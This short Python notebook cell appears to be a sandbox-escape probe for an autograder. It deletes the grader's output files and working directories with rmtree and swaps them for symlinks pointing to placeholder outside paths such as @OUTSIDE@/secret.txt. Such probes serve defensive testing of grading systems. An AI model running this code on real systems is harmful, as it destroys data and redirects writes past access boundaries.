# Tries: have the grader write through links left where it saves the notebook and its receipt.
# Points: none
# Flag: any

# %%
import os
import shutil

for nom in ("cible.ipynb", "depot.json", "integrite.json", "echec.json", "timestamp.txt"):
    try:
        if os.path.lexists(nom):
            os.remove(nom)
        os.symlink("@OUTSIDE@/secret.txt", nom)
    except OSError as erreur:
        print(nom, type(erreur))
for dossier in (os.getcwd(), "@COURSE@/autograded"):
    try:
        shutil.rmtree(dossier, ignore_errors=True)
        os.symlink("@OUTSIDE@", dossier)
    except OSError as erreur:
        print(type(erreur))
